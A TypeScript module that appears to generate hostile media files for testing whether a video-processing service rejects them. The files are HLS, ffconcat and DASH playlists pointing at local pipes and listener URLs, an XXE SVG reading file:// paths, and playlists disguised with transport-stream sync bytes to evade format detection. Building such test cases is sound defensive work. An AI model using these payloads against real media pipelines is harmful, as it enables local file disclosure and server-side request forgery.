import type { Bait, HostileFile } from './hostile-file.js';

/** Bytes between the sync bytes of a transport stream, and more of them than are a coincidence. */
const PACKET = 188;
const PACKETS = 6;

/** Texts that tell a player to open other files, under the names of videos. */
export function scripts(bait: Bait): HostileFile[] {
  const plain = Object.entries(texts(bait)).flatMap(([name, text]) => [
    file(`${name}.mp4`, text),
    ...(name === 'hls' ? [file('hls.m3u8', text)] : []),
  ]);
  return [...plain, ...disguised(bait)];
}

const file = (name: string, text: string): HostileFile => ({ name, bytes: Buffer.from(text), ends: ['NOT_A_VIDEO'] });

function texts({ video, pipe, text, url }: Bait): Record<string, string> {
  return {
    hls: playlist([pipe, video, url]),
    ffconcat: concat([pipe, video]),
    concat: `file '${pipe}'\nfile '${video}'\n`,
    dash: manifest(url),
    sdp: `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${new URL(url).port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    svg: `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image xlink:href="file://${pipe}" width="64" height="64"/><image xlink:href="${url}" width="64" height="64"/></svg>`,
    xxe: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${pipe}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    asx: `<asx version="3.0"><entry><ref href="${url}"/></entry></asx>`,
    pls: `[playlist]\nFile1=${url}\nNumberOfEntries=1\n`,
    srt: `1\n00:00:00,000 --> 00:00:01,000\n<img src="${url}">${text}\n`,
    ass: `[Script Info]\nScriptType: v4.00+\n[Events]\nFormat: Layer, Start, End, Text\nDialogue: 0,0:00:00.00,0:00:01.00,${text}\n`,
    vtt: `WEBVTT\n\n00:00.000 --> 00:01.000\n${text}\n`,
    html: `<!doctype html><video src="${url}"></video>`,
    json: JSON.stringify({ video: pipe }),
  };
}

/** Scripts with the sync bytes of a transport stream in a comment: only ffmpeg's own whitelist stops them. */
function disguised({ video, pipe, url }: Bait): HostileFile[] {
  const file = (name: string, text: string, ...comment: [string, string]): HostileFile => ({
    name: `${name}-disguised.ts`,
    bytes: disguise(text, ...comment),
    ends: ['MEDIA_CORRUPT'],
  });
  return [
    file('hls-to-pipe', playlist([pipe, video]), '#', '\n'),
    file('hls-to-listener', playlist([`${url}/a.ts`]), '#', '\n'),
    file('hls-to-video', playlist([video]), '#', '\n'),
    file('ffconcat', concat([pipe, video]), '#', '\n'),
    file('dash', manifest(url), '<!--', '-->'),
  ];
}

/** Puts a comment that repeats the sync byte at the distance of packets behind the first line. */
function disguise(text: string, open: string, close: string): Buffer {
  const start = text.indexOf('\n') + 1;
  const sync = Array.from({ length: PACKETS }, () => 'G'.padEnd(PACKET, '.')).join('');
  return Buffer.from(`${text.slice(0, start)}${open}${sync}${close}${text.slice(start)}`);
}

const playlist = (files: string[]): string =>
  `#EXTM3U\n#EXT-X-TARGETDURATION:2\n${files.map((path) => `#EXTINF:2,\n${path}\n`).join('')}#EXT-X-ENDLIST\n`;

const concat = (files: string[]): string => `ffconcat version 1.0\n${files.map((path) => `file '${path}'\n`).join('')}`;

const manifest = (url: string): string =>
  `<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-main:2011"><BaseURL>${url}/</BaseURL><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`;
